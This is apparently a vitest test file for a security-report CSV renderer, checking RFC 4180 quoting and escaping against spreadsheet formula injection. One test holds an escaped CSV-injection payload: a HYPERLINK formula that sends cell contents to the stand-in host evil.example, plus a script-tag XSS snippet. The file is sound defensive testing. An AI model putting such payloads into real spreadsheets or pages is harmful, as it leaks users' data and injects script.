import { describe, expect, test } from 'vitest';
import { CSV_COLUMNS, csvCell, renderCsv } from '../../src/report/csv.js';
import { sampleModel } from './report-model-sample.js';

/** A small RFC 4180 reader, to check the output parses back into the same cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

describe('renderCsv', () => {
  const text = renderCsv(sampleModel());
  const rows = parseCsv(text);

  test('matches the golden file', async () => {
    await expect(text).toMatchFileSnapshot('./csv.golden.csv');
  });

  test('a header, then one row per finding, every row as wide as the header', () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + sampleModel().findings.length);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  test('no cell a spreadsheet would run as a formula', () => {
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"click") <script>document.title='PWNED'</script>`,
    );
  });

  test('muted and resolved findings carry their exemption and dates', () => {
    const byState = (state: string) => rows.filter((row) => row[4] === state);
    const legacy = byState('muted').find((row) => row[7]?.endsWith('/legacy-bs'));
    expect(legacy?.slice(13, 16)).toEqual([
      'legacy API retires in June (CHG-1142)',
      'platform-team@acme.example',
      '2026-05-20',
    ]);
    expect(byState('resolved')[0]?.[12]).toBe('2026-04-25T06:00:00.000Z');
  });

  test('unicode passes through unchanged', () => {
    expect(text).toContain('Zahlungs-API für Kunden — 東京 ✓');
  });
});

describe('csvCell', () => {
  test.each([
    ['plain text stays bare', 'acme-edge', 'acme-edge'],
    ['a comma is quoted', 'a,b', '"a,b"'],
    ['quotes are doubled inside quotes', 'say "hi"', '"say ""hi"""'],
    ['a line break is quoted, kept', 'one\ntwo', '"one\ntwo"'],
    ['= starts a formula', '=1+1', "'=1+1"],
    ['+ starts a formula', '+1', "'+1"],
    ['- starts a formula', '-1+1', "'-1+1"],
    ['@ starts a formula', '@SUM(A1)', "'@SUM(A1)"],
    ['a leading tab', '\t=1', "'\t=1"],
    ['a leading CR is quoted too', '\r=1', `"'\r=1"`],
    ['formula and comma', '=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    ['a minus inside is fine', 'us-central1', 'us-central1'],
    ['empty', '', ''],
  ])('%s', (_name, value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
